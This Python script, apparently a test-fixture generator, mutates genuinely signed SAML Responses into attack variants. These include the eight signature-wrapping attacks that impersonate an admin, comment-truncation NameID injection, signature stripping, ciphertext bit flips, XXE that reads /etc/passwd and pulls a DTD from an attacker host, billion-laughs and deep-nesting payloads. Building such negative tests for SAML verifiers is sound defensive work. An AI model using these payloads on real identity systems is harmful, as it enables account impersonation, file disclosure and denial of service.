#!/usr/bin/env python3
# mutate.py OP IN OUT - the attacker's half of gen.sh: takes a document that
# xmlsec1 signed (or encrypted) and changes its structure or text the way an
# attacker who holds one genuine signed Response would.  Nothing here signs
# or computes a digest; every signature in the output is one xmlsec1 made.
#
# The XSW operations follow the eight wrapping attacks of Somorovsky et al.,
# "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), in
# the form SAML Raider implements them.  The evil assertion or response is
# a copy whose NameID is EVIL; the genuine signed element is moved where a
# naive ID lookup still finds it.
import re
import sys
from xml.dom import minidom

DS = "http://www.w3.org/2000/09/xmldsig#"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
XENC = "http://www.w3.org/2001/04/xmlenc#"
EVIL = "admin@example.test"


def kids(el, ns, name):
    """Element children of el with this namespace and local name."""
    return [n for n in el.childNodes
            if n.nodeType == n.ELEMENT_NODE and n.namespaceURI == ns and n.localName == name]


def first(el, ns, name):
    found = el.getElementsByTagNameNS(ns, name)
    if not found:
        sys.exit("mutate.py: no %s in the input" % name)
    return found[0]


def set_nameid(el, value):
    nameid = first(el, SAML, "NameID")
    while nameid.firstChild:
        nameid.removeChild(nameid.firstChild)
    nameid.appendChild(nameid.ownerDocument.createTextNode(value))


def evil_copy(el, new_id, keep_sig=False):
    """A deep copy of el with EVIL as NameID, its own ds:Signature removed."""
    c = el.cloneNode(True)
    if not keep_sig:
        for s in kids(c, DS, "Signature"):
            c.removeChild(s)
    if new_id:
        c.setAttribute("ID", new_id)
    set_nameid(c, EVIL)
    return c


def unsigned_copy(el):
    c = el.cloneNode(True)
    for s in kids(c, DS, "Signature"):
        c.removeChild(s)
    return c


def evil_response(resp):
    """Makes resp the evil Response: new ID, its assertion EVIL with a new
    ID too (SAML Raider keeps the assertion's ID, which duplicates it and
    lets a duplicate-ID rule catch the attack; renamed, only the wrapping
    rule can)."""
    set_nameid(resp, EVIL)
    kids(resp, SAML, "Assertion")[0].setAttribute("ID", "_evil_assertion")
    resp.setAttribute("ID", "_evil_response")


def xsw1(doc, resp):
    # The genuine Response, minus its signature, becomes a child of the
    # signature; the root is an evil Response with a new ID.  (The
    # enveloped-signature transform then drops the whole copy, which is
    # inside the signature: xmlsec1 finds a digest mismatch.)
    orig = unsigned_copy(resp)
    sig = kids(resp, DS, "Signature")[0]
    evil_response(resp)
    sig.appendChild(orig)


def xsw2(doc, resp):
    # As XSW1, but the genuine Response is a sibling before the signature,
    # where the signature verifies.
    orig = unsigned_copy(resp)
    sig = kids(resp, DS, "Signature")[0]
    evil_response(resp)
    resp.insertBefore(orig, sig)


def xsw3(doc, resp):
    # An evil unsigned assertion (new ID) before the genuine signed one.
    a = kids(resp, SAML, "Assertion")[0]
    resp.insertBefore(evil_copy(a, "_evil_assertion"), a)


def xsw4(doc, resp):
    # An evil unsigned assertion (new ID) that wraps the genuine one.
    a = kids(resp, SAML, "Assertion")[0]
    evil = evil_copy(a, "_evil_assertion")
    resp.replaceChild(evil, a)
    evil.appendChild(a)


def xsw5(doc, resp):
    # The signed assertion's content is changed and its ID too; an unsigned
    # copy of the genuine assertion is appended to the Response.
    a = kids(resp, SAML, "Assertion")[0]
    resp.appendChild(unsigned_copy(a))
    set_nameid(a, EVIL)
    a.setAttribute("ID", "_evil_assertion")


def xsw6(doc, resp):
    # As XSW5, but the genuine copy goes inside the evil assertion's
    # signature element (where the enveloped-signature transform drops it:
    # xmlsec1 finds a digest mismatch).
    a = kids(resp, SAML, "Assertion")[0]
    sig = kids(a, DS, "Signature")[0]
    orig = unsigned_copy(a)
    set_nameid(a, EVIL)
    sig.appendChild(orig)
    a.setAttribute("ID", "_evil_assertion")


def xsw7(doc, resp):
    # SAML Raider's form: an Extensions element before the genuine signed
    # assertion holds an evil unsigned copy with the SAME ID (so the
    # document has duplicate IDs).
    a = kids(resp, SAML, "Assertion")[0]
    ext = doc.createElementNS(SAMLP, "samlp:Extensions")
    resp.insertBefore(ext, a)
    ext.appendChild(evil_copy(a, None))


def xsw7b(doc, resp):
    # The paper's other reading of XSW7: the genuine signed assertion is
    # hidden in Extensions (where the schema allows anything), in its legal
    # place after the Issuer; an evil unsigned assertion with its own ID is
    # the Response's assertion.  Unique IDs, so the signature verifies.
    a = kids(resp, SAML, "Assertion")[0]
    evil = evil_copy(a, "_evil_assertion")
    resp.replaceChild(evil, a)
    ext = doc.createElementNS(SAMLP, "samlp:Extensions")
    status = kids(resp, SAMLP, "Status")[0]
    resp.insertBefore(ext, status)
    ext.appendChild(a)


def xsw8(doc, resp):
    # The evil assertion keeps the signature; a ds:Object inside that
    # signature holds the genuine assertion minus its signature.  (SAML
    # Raider keeps the ID, which makes duplicate IDs; we give the evil one
    # its own ID.  The enveloped-signature transform drops the copy, which
    # is inside the signature: xmlsec1 finds a digest mismatch.)
    a = kids(resp, SAML, "Assertion")[0]
    sig = kids(a, DS, "Signature")[0]
    obj = doc.createElementNS(DS, "ds:Object")
    obj.appendChild(unsigned_copy(a))
    set_nameid(a, EVIL)
    sig.appendChild(obj)
    a.setAttribute("ID", "_evil_assertion")


def strip_sig(doc, resp):
    for s in list(doc.getElementsByTagNameNS(DS, "Signature")):
        s.parentNode.removeChild(s)


def tamper_nameid(doc, resp):
    set_nameid(resp, EVIL)


def sig_to_response(doc, resp):
    # The assertion's signature is moved out of the assertion to be a child
    # of the Response (after its Issuer): it still verifies (the reference
    # is by ID) but it is no longer an enveloped signature of the Response.
    a = kids(resp, SAML, "Assertion")[0]
    sig = kids(a, DS, "Signature")[0]
    a.removeChild(sig)
    issuer = kids(resp, SAML, "Issuer")[0]
    resp.insertBefore(sig, issuer.nextSibling)


def dup_id(doc, resp):
    # The Response takes the assertion's ID: "#ID" names two elements.
    a = kids(resp, SAML, "Assertion")[0]
    resp.setAttribute("ID", a.getAttribute("ID"))


def flip_cipher(doc, resp):
    # Flips one bit in the middle of the assertion's ciphertext.
    ed = first(resp, XENC, "EncryptedData")
    cds = kids(ed, XENC, "CipherData")
    cv = kids(cds[0], XENC, "CipherValue")[0]
    text = "".join(t.data for t in cv.childNodes)
    i = len(text) // 2
    while not text[i].isalnum():
        i += 1
    alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    c = alpha[alpha.index(text[i]) ^ 1]
    while cv.firstChild:
        cv.removeChild(cv.firstChild)
    cv.appendChild(doc.createTextNode(text[:i] + c + text[i + 1:]))


DOM_OPS = {
    "xsw1": xsw1, "xsw2": xsw2, "xsw3": xsw3, "xsw4": xsw4, "xsw5": xsw5,
    "xsw6": xsw6, "xsw7": xsw7, "xsw7b": xsw7b, "xsw8": xsw8,
    "strip-sig": strip_sig, "tamper-nameid": tamper_nameid,
    "sig-to-response": sig_to_response, "dup-id": dup_id,
    "flip-cipher": flip_cipher,
}


def split_decl(text):
    """The XML declaration (with its newline) and the rest."""
    m = re.match(r"<\?xml[^>]*\?>\n?", text)
    return (m.group(0), text[m.end():]) if m else ("", text)


def nameid_text(text, new):
    return re.sub(r"(<saml:NameID[^>]*>)[^<]*(</saml:NameID>)",
                  lambda m: m.group(1) + new + m.group(2), text, count=1)


def comment_inject(text):
    # The 2018 comment-truncation attack (CVE-2017-11427 and kin): a user
    # who may register alice@example.test.evil.test gets a genuine signed
    # assertion and inserts a comment; exclusive c14n drops comments, so the
    # signature still verifies, and a parser that takes the first text node
    # reads alice@example.test.
    return nameid_text(text, "alice@example.test<!---->.evil.test")


def doctype_plain(text):
    decl, rest = split_decl(text)
    return decl + "<!DOCTYPE samlp:Response>\n" + rest


def xxe(text):
    decl, rest = split_decl(text)
    return (decl + '<!DOCTYPE samlp:Response [\n'
            '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
            + nameid_text(rest, "&xxe;"))


def xxe_external_dtd(text):
    decl, rest = split_decl(text)
    return (decl + '<!DOCTYPE samlp:Response SYSTEM '
            '"http://attacker.example.test/evil.dtd">\n' + rest)


def billion_laughs(text):
    decl, rest = split_decl(text)
    ents = ['<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        ents.append('<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1)) * 10))
    return (decl + "<!DOCTYPE samlp:Response [\n" + "\n".join(ents) + "\n]>\n"
            + nameid_text(rest, "&lol9;"))


def deep_nesting(text):
    # 10000 nested elements in Extensions: past any sane depth bound (and
    # libxml2's own default of 256).
    depth = 10000
    deep = ("<samlp:Extensions>" + "<x>" * depth + "</x>" * depth
            + "</samlp:Extensions>")
    return re.sub(r"(<samlp:Status>)", lambda m: deep + m.group(1), text, count=1)


TEXT_OPS = {
    "comment-inject": comment_inject, "doctype-plain": doctype_plain,
    "xxe": xxe, "xxe-external-dtd": xxe_external_dtd,
    "billion-laughs": billion_laughs, "deep-nesting": deep_nesting,
}


def main():
    if len(sys.argv) != 4:
        sys.exit("usage: mutate.py OP IN OUT")
    op, src, dst = sys.argv[1:]
    with open(src, encoding="utf-8") as f:
        text = f.read()
    if op in TEXT_OPS:
        out = TEXT_OPS[op](text)
    elif op in DOM_OPS:
        doc = minidom.parseString(text.encode("utf-8"))
        DOM_OPS[op](doc, doc.documentElement)
        decl, _ = split_decl(text)
        body = doc.documentElement.toxml()
        out = decl + body + "\n"
    else:
        sys.exit("mutate.py: unknown op " + op)
    if out == text:
        sys.exit("mutate.py: %s changed nothing" % op)
    with open(dst, "w", encoding="utf-8") as f:
        f.write(out)


if __name__ == "__main__":
    main()
